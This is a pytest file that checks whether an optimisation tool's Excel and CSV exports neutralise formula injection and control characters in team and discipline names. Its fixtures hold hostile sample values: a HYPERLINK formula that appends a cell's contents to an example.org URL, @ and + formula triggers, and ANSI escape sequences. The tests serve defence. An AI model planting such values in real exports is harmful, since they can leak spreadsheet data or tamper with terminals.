"""Exports of a formation whose team and discipline names are hostile (issue 12)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

import optimize
import safeio
from tests.optimize.instances import disc, scenario

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A2,"Noord")',
    "@SUM(1+1)",
    "+31 6 12345678",
    "Zuid\x0bOost\x1b[2J",
]


@pytest.fixture(scope="module")
def result() -> optimize.Result:
    s = scenario(disc("d", naam="=1+1"), disc("e", naam="Wmo\x1b[31m"))
    need = pd.DataFrame({"a": [10.0, 20.0, 30.0, 40.0]}, index=HOSTILE)
    return optimize.FormationModel.from_frames(s, need).solve()


def test_workbook_has_no_formula_and_no_control_character(result: optimize.Result) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(optimize.formation_xlsx_bytes(result)))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert "\x1b" not in cell.value
                    assert "\x0b" not in cell.value
                    if cell.value.startswith(safeio.FORMULA_START):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert HOSTILE[0] in texts  # shown as text, not dropped


def test_csv_text_cells_are_inert(result: optimize.Result) -> None:
    text = optimize.formation_csv_bytes(result).decode("utf-8-sig")
    assert "\x1b" not in text
    assert "'=HYPERLINK" in text
    assert "'@SUM(1+1)" in text
    assert "'+31 6 12345678" in text
    assert ";=" not in text
